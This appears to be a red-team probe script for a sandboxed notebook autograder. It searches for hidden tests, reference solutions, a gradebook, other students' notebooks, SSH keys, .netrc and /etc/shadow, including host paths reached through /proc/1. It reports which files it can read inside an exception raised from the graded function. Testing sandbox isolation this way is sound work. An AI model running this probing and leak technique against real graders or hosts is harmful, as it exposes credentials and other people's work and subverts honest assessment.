# Red team: look for the hidden suite, the reference solution, other students' notebooks, the gradebook and
# the grader's own files, at the paths the kit uses and at the host paths bubblewrap's command line names.
# The paths it could read are sent back in an exception message, the one channel into results.json.
import glob
import json
import os

try:
    with open("/proc/1/cmdline", "rb") as stream:
        host_paths = [p.decode(errors="replace") for p in stream.read().split(b"\0") if p.startswith(b"/")]
except OSError:
    host_paths = []
roots = {os.path.dirname(os.path.dirname(p)) for p in host_paths if p.endswith(".ipynb")}  # the class folder
candidates = [
    "/work/main/solutions/01_bayes/hidden/test_discrete.py", "/work/main/solutions/01_bayes/bayes.ipynb",
    "/work/main/grades/gradebook.sqlite", "/work/main/course.yml", "/root/.netrc", "/root/.ssh/id_rsa",
    os.path.expanduser("~/.netrc"), "/etc/shadow", "/proc/1/root/etc/shadow",
    "/proc/1/cwd/course.yml", "/proc/1/root/work/main/solutions/01_bayes/bayes.ipynb",
]
for root in roots:
    candidates += glob.glob(os.path.join(root, "*")) + glob.glob(os.path.join(root, "*", "*"))
    candidates += glob.glob(os.path.join(os.path.dirname(root), "*"))
for pattern in ["../*/*.ipynb", "../../*/*", "/tmp/*", "/tmp/*/*", "/sandbox/*/*", "/work/*/*", "/root/*", "/home/*/*"]:
    candidates += glob.glob(pattern)
public = (os.path.abspath("bayes.ipynb"), "/sandbox/work/datasets/", "/sandbox/lib/", "/work/main/.venv/")
loot = []
for path in dict.fromkeys(candidates):
    if os.path.abspath(path).startswith(public):
        continue
    try:
        with open(path, "rb") as stream:
            stream.read(300)
        loot.append(path)
    except OSError:
        pass


def posterior(prior, likelihood):
    raise RuntimeError("LOOT:" + json.dumps(sorted(loot)))
